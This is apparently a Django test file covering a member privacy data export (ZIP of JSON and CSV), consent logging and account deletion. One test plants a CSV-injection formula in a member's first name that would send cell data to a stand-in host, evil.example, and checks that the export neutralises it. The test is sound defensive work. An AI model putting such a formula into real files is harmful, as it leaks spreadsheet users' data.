import csv
import io
import json
import zipfile

import pytest
from django.core import mail
from django.urls import reverse

from hub import emails
from hub.accounts.services import member_delete
from hub.privacy import wordings
from hub.privacy.models import ConsentEvent, MemberPrivacy
from hub.privacy.services import consent_set

pytestmark = pytest.mark.django_db


def download(member_client) -> zipfile.ZipFile:
    response = member_client.get(reverse("privacy:export"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert 'attachment; filename="dataide-mes-donnees-' in response["Content-Disposition"]
    return zipfile.ZipFile(io.BytesIO(response.content))


def read_csv(archive, name):
    return list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))


def test_the_download_is_a_zip_of_json_and_csv_with_profile_and_consents(member_client, member):
    consent_set(user=member, subject=wordings.NEWSLETTER, given=True, method="signup_form")
    consent_set(user=member, subject=wordings.NEWSLETTER, given=False, method="my_space")
    archive = download(member_client)
    names = set(archive.namelist())
    assert {
        "donnees.json",
        "profile.csv",
        "privacy-choices.csv",
        "privacy-consent_log.csv",
    } <= names

    data = json.loads(archive.read("donnees.json"))
    assert data["profile"]["email"] == member.email
    assert data["privacy"]["choices"]["profile_visibility"] == "private"
    log = data["privacy"]["consent_log"]
    assert [(row["subject"], row["action"]) for row in log] == [
        ("newsletter", "given"),
        ("newsletter", "withdrawn"),
    ]
    assert log[0]["wording_version"] == "2026-11"

    profile = dict(read_csv(archive, "profile.csv")[1:])
    assert profile["first_name"] == "Nadia"
    rows = read_csv(archive, "privacy-consent_log.csv")
    assert rows[0][:3] == ["time", "subject", "action"]
    assert [row[1:3] for row in rows[1:]] == [["newsletter", "given"], ["newsletter", "withdrawn"]]


def test_a_formula_in_the_members_own_data_opens_as_text(member_client, member):
    member.first_name = '=HYPERLINK("http://evil.example/?leak="&B2,"Voir")'
    member.save(update_fields=["first_name"])
    profile = dict(read_csv(download(member_client), "profile.csv")[1:])
    assert profile["first_name"] == "'" + member.first_name


def test_every_registered_section_is_in_the_zip(member_client):
    from hub.extensions import member_exports

    def section(user):
        return [{"post": 1, "emoji": "👍"}]

    with member_exports.override("test_reactions", section):
        archive = download(member_client)
    assert read_csv(archive, "test_reactions.csv") == [["post", "emoji"], ["1", "👍"]]


def test_the_download_needs_a_sign_in(client):
    response = client.get(reverse("privacy:export"))
    assert response.status_code == 302


def test_deleting_an_account_withdraws_every_consent_and_stops_all_email(member):
    consent_set(user=member, subject=wordings.NEWSLETTER, given=True, method="signup_form")
    consent_set(user=member, subject=wordings.STATISTICS, given=True, method="signup_form")
    member_delete(user=member)
    member.refresh_from_db()
    assert not MemberPrivacy.objects.filter(user=member).exists()
    withdrawn = ConsentEvent.objects.filter(user=member, method="account_deletion")
    assert {event.subject for event in withdrawn} == {"newsletter", "statistics"}
    assert (
        emails.send_member_email(
            member=member, category=emails.PROMOTIONAL, template="emails/privacy_inactivity_notice"
        )
        is False
    )
    assert mail.outbox == []
